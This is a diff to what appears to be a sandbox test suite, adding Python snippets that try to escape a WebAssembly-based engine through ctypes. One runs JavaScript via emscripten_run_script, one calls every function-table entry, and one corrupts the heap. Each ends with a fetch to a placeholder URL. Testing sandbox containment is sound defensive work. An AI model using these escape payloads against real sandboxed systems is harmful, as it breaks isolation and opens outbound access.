@@ -141,3 +141,25 @@ return found.length > 0;`,
     `return /blob:|worker\\.js|closed-world/.test(String(new Error('x').stack));`,
   ),
 ];
+
+const THROUGH_C =
+  'JavaScript from text in the worker, through the engine’s own C: its functions that call a script.';
+
+/** Ways that may end the engine: each is tried in a process of its own. */
+export const ENDING: readonly Attempt[] = [
+  python(
+    'emscripten_run_script',
+    THROUGH_C,
+    `import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch('URL_HERE'); Array.escaped = 1")\nimport js\nif hasattr(js.Array, "escaped"): got(1)`,
+  ),
+  python(
+    'a call to every place of the function table',
+    'A function of the engine’s that was never meant for samples.',
+    `import ctypes\nfor place in range(1, 3000):\n    ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(place)(b"fetch('URL_HERE')")`,
+  ),
+  python(
+    'the heap overwritten from its middle to its end',
+    'What the engine’s JavaScript reads back from the heap: texts, addresses, lengths.',
+    `import ctypes\nctypes.memset(id(got), 0x41, 1 << 24)\nimport js\njs.fetch("URL_HERE")`,
+  ),
+];
